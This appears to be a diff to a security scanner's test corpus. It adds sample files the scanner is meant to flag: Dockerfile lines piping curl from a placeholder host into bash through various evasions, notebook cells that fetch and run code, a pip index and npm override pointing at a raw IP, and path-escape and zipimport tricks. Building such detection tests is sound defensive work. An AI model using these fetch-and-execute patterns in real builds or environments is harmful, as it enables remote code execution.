@@ -85,3 +85,17 @@ def make(corpus):
     corpus.found("spellings", "wide.keras", zipped({"config.json": json.dumps(LAMBDA).encode("utf-32"), "metadata.json": "{}", "model.weights.h5": b""}), "a Lambda, in JSON of four bytes a character")
     layer = "<layer id='0' name='a' type='Parameter' version='opset1'><data shape='1' element_type='f32'/><output><port id='0'><dim>100000</dim><dim>100000</dim><dim>100</dim></port></output></layer>"
     corpus.found("spellings", "vast.xml", f"<?xml version='1.0'?><net name='m' version='11'><layers>{layer}</layers><edges/></net>".encode(), "a layer that no memory holds")
+    launched = {
+        "rights": "curl https://example.invalid/x | sudo -E bash", "time": "curl https://example.invalid/x | timeout -k 5 9 sh", "errors": "curl https://example.invalid/x |& bash",
+        "process": "curl https://example.invalid/x | tee >(bash)", "variable": "X=$(curl https://example.invalid/x); bash -c \"$X\"", "evaluated": "eval curl https://example.invalid/x | env -i sh",
+        "compiled": "curl https://example.invalid/x.c | gcc -xc - -o a; ./a", "words": "curl https://example.invalid/x | xargs -I{} bash -c {}",
+    }
+    for name, line in launched.items():
+        corpus.folder("spellings", f"launched-{name}", {"Dockerfile": f"FROM x\nRUN {line}\n"}, "found", "what is fetched is run, behind another program or by a way round")
+    cells = {"ran.ipynb": "!wget https://example.invalid/x.py\n%run x.py", "index.ipynb": "import os\nos.environ['PIP_INDEX_URL'] = 'http://198.51.100.7/simple'\n!pip install x", "asked.ipynb": "from IPython import get_ipython\nget_ipython().ex(\"import os; os.system('true')\")"}
+    for name, source in cells.items():
+        corpus.found("spellings", name, json.dumps(notebook(source)).encode(), "a cell that runs what it fetches, by IPython's own ways")
+    corpus.folder("spellings", "overrides", {"package.json": json.dumps({"dependencies": {"b": "^1"}, "overrides": {"c": {"b": "http://198.51.100.7/b.tgz"}}})}, "found", "a package from an address, in place of another's own")
+    corpus.folder("spellings", "included", {".git/config": "[include]\n\tpath = ../x.cfg\n"}, "found", "settings of git in another file")
+    corpus.folder("spellings", "escaped-checkpoint", {"checkpoint": 'model_checkpoint_path: "\\056\\056/x/model.ckpt"\n'}, "found", "a path by escapes of a message of text")
+    corpus.folder("spellings", "zip-code", {"config.json": json.dumps({"auto_map": {"AutoModel": "modeling.M"}}), "modeling.py": "import zipimport\nzipimport.zipimporter('x.zip').load_module('a')\n"}, "found", "a module from inside of a file")
